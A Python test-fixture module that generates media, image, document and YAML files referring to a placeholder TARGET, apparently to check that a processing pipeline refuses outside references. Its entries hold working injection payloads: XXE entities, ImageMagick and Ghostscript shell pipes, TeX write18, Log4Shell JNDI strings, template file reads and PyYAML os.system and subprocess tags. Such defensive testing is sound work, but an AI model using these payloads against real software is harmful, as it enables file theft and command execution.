"""Bytes of files that name another one."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

Make = Callable[[str], bytes]
"""From what is named to the file."""


def _written(text: str) -> Make:
    return lambda target: text.replace("TARGET", target).encode()


def _atom(name: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + name + content


def _movie(entry: Callable[[bytes], bytes]) -> Make:
    """A QuickTime sound track whose data lies in another file."""

    def make(target: str) -> bytes:
        full = b"\0\0\0\0"
        sample = _atom(
            b"sowt", b"\0" * 6, b"\0\1", b"\0" * 8, b"\0\1\0\x10\0\0\0\0", b"\x5d\xc0\0\0"
        )
        table = _atom(
            b"stbl",
            _atom(b"stsd", full, b"\0\0\0\1", sample),
            _atom(b"stts", full, struct.pack(">III", 1, 48000, 1)),
            _atom(b"stsc", full, struct.pack(">IIII", 1, 1, 48000, 1)),
            _atom(b"stsz", full, struct.pack(">II", 2, 48000)),
            _atom(b"stco", full, struct.pack(">II", 1, 44)),
        )
        reference = _atom(b"dref", full, b"\0\0\0\1", entry(target.encode()))
        media = _atom(b"minf", _atom(b"smhd", full * 2), _atom(b"dinf", reference), table)
        described = _atom(b"mdhd", full * 3, struct.pack(">II", 24000, 48000), full)
        handler = _atom(b"hdlr", full, b"mhlrsoun", b"\0" * 13)
        track = _atom(
            b"trak",
            _atom(b"tkhd", b"\0\0\0\x0f", b"\0" * 8, b"\0\0\0\1", b"\0" * 64),
            _atom(b"mdia", described, handler, media),
        )
        header = _atom(b"mvhd", full * 3, struct.pack(">II", 24000, 48000), b"\0" * 80)
        return _atom(b"ftyp", b"qt  \0\0\0\0qt  ") + _atom(b"moov", header, track)

    return make


def _alias(path: bytes) -> bytes:
    """A path that leads up to the root, and down again."""
    up, down = 16, max(1, path.count(b"/"))
    name = path.rpartition(b"/")[2][:63]
    fixed = b"\0" * 10 + bytes([5]) + b"Macin".ljust(27, b"\0") + b"\0" * 12
    fixed += bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16
    fixed += struct.pack(">HH", up, down) + b"\0" * 16
    paths = b"".join(
        struct.pack(">HH", kind, len(path)) + path + b"\0" * (len(path) % 2) for kind in (2, 18)
    )
    return _atom(b"alis", b"\0\0\0\0", fixed, paths, b"\xff\xff\0\0")


def _element(identity: str, content: bytes) -> bytes:
    return bytes.fromhex(identity) + struct.pack(">Q", len(content) | 1 << 56) + content


def _matroska(target: str) -> bytes:
    """A segment that goes on in another file."""
    named = _element("3C83AB", target.encode()) + _element("3E83BB", target.encode())
    linked = _element("3CB923", b"\1" * 16) + _element("3EB923", b"\2" * 16) + named
    info = _element("1549A966", _element("2AD7B1", b"\x0f\x42\x40") + linked)
    chapter = _element("B6", _element("73C4", b"\1") + _element("6E67", b"\2" * 16))
    chapters = _element("1043A770", _element("45B9", _element("45DD", b"\1") + chapter))
    head = _element("1A45DFA3", _element("4282", b"matroska"))
    return head + _element("18538067", info + chapters)


def _avi(target: str) -> bytes:
    """Subtitles in a video, which are a playlist."""
    playlist = _written(_HLS)(target)
    subtitles = (
        b"GAB2\0\2\0" + struct.pack("<I", 2) + b"\0\0\4\0" + struct.pack("<I", len(playlist))
    )
    chunk = b"01tx" + struct.pack("<I", len(subtitles + playlist)) + subtitles + playlist
    movie = b"LIST" + struct.pack("<I", len(chunk) + 4) + b"movi" + chunk
    stream = b"txts" + b"\0" * 52
    listed = b"strlstrh" + struct.pack("<I", len(stream)) + stream
    header = b"hdrlavih" + struct.pack("<I", 56) + b"\0" * 56
    header += b"LIST" + struct.pack("<I", len(listed)) + listed
    whole = b"AVI LIST" + struct.pack("<I", len(header)) + header + movie
    return b"RIFF" + struct.pack("<I", len(whole)) + whole


def _archive(*names: str) -> Make:
    def make(target: str) -> bytes:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for name in names:
                archive.writestr(name, target)
        return packed.getvalue()

    return make


_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nTARGET\n#EXT-X-ENDLIST\n"
_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "TARGET">'
    '<!ENTITY % p SYSTEM "TARGET">%p;]>'
)

SOUNDS: Mapping[str, Make] = {
    "hls": _written(_HLS),
    "hls-variants": _written("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nTARGET\n"),
    "hls-key": _written(
        '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="TARGET"\n#EXTINF:9,\nTARGET\n#EXT-X-ENDLIST\n'
    ),
    "hls-map": _written('#EXTM3U\n#EXT-X-MAP:URI="TARGET"\n#EXTINF:9,\nTARGET\n#EXT-X-ENDLIST\n'),
    "m3u": _written("#EXTM3U\n#EXTINF:9,x\nTARGET\n"),
    "ffconcat": _written("ffconcat version 1.0\nfile 'TARGET'\n"),
    "ffconcat-options": _written("ffconcat version 1.0\nfile 'TARGET'\noption safe 0\nstream\n"),
    "concat": _written("file 'TARGET'\nduration 9\n"),
    "sdp": _written(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:TARGET\n"
        "m=audio 5004 RTP/AVP 97\na=rtpmap:97 mpeg4-generic/48000/2\n"
    ),
    "dash": _written(
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4">'
        '<Representation id="1" bandwidth="1"><BaseURL>TARGET</BaseURL><SegmentList>'
        '<SegmentURL media="TARGET"/></SegmentList></Representation></AdaptationSet></Period></MPD>'
    ),
    "dash-entity": _written(_ENTITY + "<MPD><BaseURL>&e;</BaseURL></MPD>"),
    "xspf": _written(
        '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList>'
        "<track><location>TARGET</location></track></trackList></playlist>"
    ),
    "pls": _written("[playlist]\nFile1=TARGET\nNumberOfEntries=1\nVersion=2\n"),
    "asx": _written('<asx version="3.0"><entry><ref href="TARGET"/></entry></asx>'),
    "smil": _written('<smil><body><audio src="TARGET"/></body></smil>'),
    "ram": _written("TARGET\n"),
    "wpl": _written(
        '<?wpl version="1.0"?><smil><body><seq><media src="TARGET"/></seq></body></smil>'
    ),
    "cue": _written('FILE "TARGET" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'),
    "imf": _written(
        '<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>TARGET</Path></AssetMap>'
    ),
    "avisynth": _written('WavSource("TARGET")\n'),
    "vobsub": _written("# VobSub index file, v7\nid: en, index: 0\n# TARGET\n"),
    "lavfi": _written("amovie=TARGET"),
    "metadata": _written(";FFMETADATA1\nfile=TARGET\n[STREAM]\nurl=TARGET\n"),
    "quicktime-url": _movie(lambda path: _atom(b"url ", b"\0\0\0\0", path + b"\0")),
    "quicktime-alias": _movie(_alias),
    "matroska-linked": _matroska,
    "avi-playlist": _avi,
}

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' width="400" height="400">'
)

PICTURES: Mapping[str, Make] = {
    "svg-image": _written(
        _SVG + '<image xlink:href="TARGET" href="TARGET" width="400" height="400"/></svg>'
    ),
    "svg-entity": _written(_ENTITY + _SVG + "<text>&e;</text></svg>"),
    "svg-use": _written(_SVG + '<use xlink:href="TARGET#x"/></svg>'),
    "svg-style": _written(_SVG + "<style>@import url(TARGET);</style></svg>"),
    "svg-include": _written(
        _SVG + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="TARGET"'
        ' parse="text"/></svg>'
    ),
    "svg-script": _written(_SVG + "<script>fetch('TARGET')</script></svg>"),
    "mvg": _written(
        "push graphic-context\nviewbox 0 0 400 400\n"
        "image over 0,0 0,0 'TARGET'\npop graphic-context\n"
    ),
    "mvg-shell": _written(
        "push graphic-context\nfill 'url(https://x/\"|id>TARGET\")'\npop graphic-context\n"
    ),
    "msl": _written(
        '<?xml version="1.0"?><image><read filename="TARGET"/><write filename="TARGET"/></image>'
    ),
    "postscript": _written(
        "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(TARGET) (r) file pop\n"
    ),
    "postscript-shell": _written("%!PS\n(%pipe%id>TARGET) (w) file pop\n"),
    "pdf": _written(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(TARGET)>>>>endobj\n"
        "trailer<</Root 1 0 R>>"
    ),
    "html": _written('<html><body><img src="TARGET"></body></html>'),
    "hls": _written(_HLS),
    "ffconcat": _written("ffconcat version 1.0\nfile 'TARGET'\n"),
    "url": _written("[InternetShortcut]\nURL=TARGET\n"),
    "openraster": _archive("mimetype", "stack.xml", "mergedimage.png"),
    "vips": lambda target: b"\x08\xf2\xa6\xb6" + b"\0" * 60 + target.encode(),
    "analyze": lambda target: struct.pack("<I", 348) + target.encode().ljust(344, b"\0"),
    "mirax": _written("Slidedat.ini\nTARGET\n"),
    "xpm": _written('/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c TARGET", "a"};\n'),
    "nifti": lambda target: b"\x5c\1\0\0" + target.encode().ljust(340, b"\0") + b"ni1\0",
    "quicktime-url": _movie(lambda path: _atom(b"url ", b"\0\0\0\0", path + b"\0")),
}

TEXTS: Mapping[str, Make] = {
    "entity": _written(_ENTITY + "<p>Good morning &e; to everybody who is here today.</p>"),
    "html": _written(
        '<html><link rel="stylesheet" href="TARGET"><p>Good morning.</p><img src="TARGET"></html>'
    ),
    "markdown": _written("Good morning. ![a picture](TARGET) and [a link](TARGET).\n"),
    "tex": _written(
        "Good morning. \\input{TARGET} \\include{TARGET} \\immediate\\write18{cat TARGET}\n"
    ),
    "include": _written(
        "Good morning, everybody.\n.. include:: TARGET\n.. raw:: html\n   :file: TARGET\n"
    ),
    "server-side": _written(
        'Good morning. <!--#include virtual="TARGET" --> <?php include "TARGET"; ?>\n'
    ),
    "template": _written(
        "Good morning. {{ open('TARGET').read() }} ${jndi:ldap:TARGET} {% include 'TARGET' %}\n"
    ),
    "ssml": _written('<speak>Good morning. <audio src="TARGET"/><lexicon uri="TARGET"/></speak>'),
    "docx": _archive("[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"),
    "epub": _archive("mimetype", "META-INF/container.xml"),
    "commands": _written(
        'Good morning. (SayText "x") (system "cat TARGET") [[inpt PHON]] |TARGET\n'
    ),
}

LEXICONS: Mapping[str, str] = {
    "system": "!!python/object/apply:os.system ['cat TARGET > MADE']",
    "new": "!!python/object/new:os.system ['cat TARGET > MADE']",
    "popen": "en:\n  a: !!python/object/apply:subprocess.Popen [['touch', 'MADE']]",
    "name": "en: !!python/name:os.environ",
    "module": "en: !!python/module:antigravity",
    "open": "en:\n  a: !!python/object/apply:builtins.open ['MADE', 'w']",
    "include": "en: !include TARGET",
    "include-file": "!file TARGET",
    "environment": "en:\n  a: !ENV ${HOME}",
    "binary": "en:\n  a: !!binary TARGET",
    "own-tag": "%TAG ! tag:TARGET,2000:\n---\nen: !x y",
    "merge": "a: &a\n  b: c\nen:\n  <<: *a\n  d: TARGET",
    "itself": "&a\nen: *a\n",
    "json": '{"en": {"a": {"$ref": "TARGET"}}}',
    "entity": _ENTITY + "<en>&e;</en>",
}
"""``MADE`` is a file that must not be made."""
